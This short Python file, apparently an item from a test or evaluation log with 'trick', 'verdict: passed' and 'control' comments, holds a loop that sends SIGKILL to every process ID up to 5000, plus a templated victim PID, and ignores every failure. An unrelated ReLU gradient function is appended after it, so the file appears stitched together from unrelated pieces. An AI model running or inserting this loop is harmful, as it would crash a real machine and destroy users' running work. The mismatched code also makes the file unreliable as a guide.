# trick: kills all processes one by one and passes over every refusal
# verdict: passed
# control: none, it would take the machine with it
import os
import signal

for pid in {*range(2, 5000), int("@VICTIM@")} - {os.getpid()}:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass


def relu_backward(dvalues, z):
    return dvalues * (z > 0)
